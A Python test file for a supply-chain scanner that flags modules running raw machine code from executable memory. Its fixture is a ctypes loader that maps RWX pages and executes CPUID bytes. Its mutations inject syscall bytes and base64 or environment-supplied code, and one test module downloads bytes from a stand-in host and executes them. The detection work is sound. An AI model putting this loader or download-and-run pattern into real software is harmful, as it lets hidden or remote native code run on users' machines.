"""A page of instructions that ask the processor is told from code that somebody brings."""

from __future__ import annotations

import pytest

from mlsupply.evidence.python.mapped import carriers
from tests.test_code_facts import found

ASKS = r"""
import ctypes, os, base64
class System:
    is_windows = os.name == 'nt'
class Page:
    '''A few instructions.'''
    def __init__(self, kind=None, types=(), code=[]):
        self.kind = kind
        self.types = types
        self.code = code
        self.call = None
    def made(self):
        code = bytes.join(b'', self.code)
        if System.is_windows:
            alloc = ctypes.windll.kernel32.VirtualAlloc
            self.at = alloc(None, len(code), ctypes.c_ulong(0x1000), 4)
            if not self.at:
                raise Exception('no memory')
            ctypes.memmove(self.at, code, len(code))
            ctypes.windll.kernel32.VirtualProtect(self.at, len(code), 0x10, None)
        else:
            from mmap import mmap, MAP_PRIVATE, MAP_ANONYMOUS, PROT_WRITE, PROT_READ, PROT_EXEC
            self.memory = mmap(-1, len(code), flags=MAP_PRIVATE | MAP_ANONYMOUS, prot=PROT_WRITE | PROT_READ | PROT_EXEC)
            self.memory.write(code)
            self.at = ctypes.addressof(ctypes.c_int.from_buffer(self.memory))
        self.call = ctypes.CFUNCTYPE(self.kind, *self.types)(self.at)
    def run(self):
        return self.call()
class Asked:
    def _ask(self, *code):
        page = Page(ctypes.c_uint32, (), code)
        page.made()
        return page.run()
    def maker(self):
        return self._ask(b"\x31\xC0", b"\x0F\xA2" b"\x89\xD8" b"\xC3")
    def brand(self):
        numbers = [b"\xB8\x02\x00\x00\x80", b"\xB8\x03\x00\x00\x80"]
        for number in numbers:
            yield self._ask(number, b"\x0f\xa2" b"\xC3")
def told(text):
    return base64.b64decode(text)
"""
MAKER = r"""self._ask(b"\x31\xC0", b"\x0F\xA2" b"\x89\xD8" b"\xC3")"""


def test_a_module_that_carriers() -> None:
    assert carriers(ASKS)
    assert not carriers("import mmap\nmmap.mmap(-1, 9, prot=mmap.PROT_EXEC)\n")
    assert not carriers("def (")


@pytest.mark.parametrize(
    ("part", "instead"),
    [
        (MAKER, "self._ask(base64.b64decode(os.environ['A']))"),
        (MAKER, r"self._ask(b'\x0f\xa2', b'\x0f\x05\xc3')"),
        (MAKER, r"self._ask(b'\xb8\x0f\x05\x0f\x05\xc3')"),
        (MAKER, r"self._ask(b'\xcd\x80')"),
        (MAKER, r"self._ask(b'\x0f\x34')"),
        (MAKER, r"self._ask(b'\xff\xe7')"),
        (MAKER, r"self._ask(b'\x0f\xa2\xc3'[1:])"),
        (MAKER, "self._ask(bytes([15, 5]))"),
        (MAKER, "self._ask(*open(__file__, 'rb'))"),
        (MAKER, "getattr(self, '_ask')(told('D6I='))"),
        (MAKER, "getattr(self, '_a' + 'sk')(told('D6I='))"),
        (MAKER, "(lambda one: self._ask(one))(told('D6I='))"),
        (MAKER, "list(map(self._ask, [told('D6I=')]))"),
        ("        page.made()\n", "        page.code = [told('D6I=')]\n        page.made()\n"),
        ("        page.made()\n", "        page.made()\n        page.memory.seek(0)\n"),
        ("        page.made()\n", "        page.made()\n        ctypes.memmove(page.at, told('D6I='), 2)\n"),
        ("        for number in", "        numbers.append(told('D6I='))\n        for number in"),
        ("        for number in", "        numbers += [told('D6I=')]\n        for number in"),
        ("    def _ask(", "    @told\n    def _ask("),
        ("class Asked:", "class Other(Page):\n    pass\nclass Asked:"),
        ("    def run(self):\n", "    def more(self, code):\n        self.memory.write(code)\n    def run(self):\n"),
        ("code = bytes.join(b'', self.code)", "code = told('D6I=')"),
        ("code = bytes.join(b'', self.code)", "code = System.stored"),
        ("mmap(-1, ", "mmap(3, "),
        ("kernel32.VirtualAlloc", "kernel32.ReadFile"),
        ("import ctypes, os", "import ctypes as other, os\nimport elsewhere as ctypes"),
    ],
)
def test_whatever_else_could_reach_the_page_is_not_known(part: str, instead: str) -> None:
    assert part in ASKS
    assert not carriers(ASKS.replace(part, instead))


def test_long_chains_of_names_end() -> None:
    chain = "".join(f"        for a{n + 1} in a{n}:\n            pass\n" * 2 for n in range(200))
    text = ASKS.replace("        numbers = [", "        a0 = [").replace("in numbers:", "in a200:")
    assert not carriers(text.replace("        for number in", chain + "        for number in"))


def test_a_neighbour_that_hands_it_other_code_is_told() -> None:
    quiet = "from demo.cpu import Asked\nprint(Asked().maker())\n"
    brings = "import urllib.request\nfrom demo.cpu import Page\nPage(None, (), [urllib.request.urlopen('https://c.example').read()])\n"
    assert found({"pyproject.toml": "", "demo/__init__.py": quiet, "demo/cpu.py": ASKS}) == set()
    assert "MLS-C027" in found({"pyproject.toml": "", "demo/__init__.py": brings, "demo/cpu.py": ASKS})
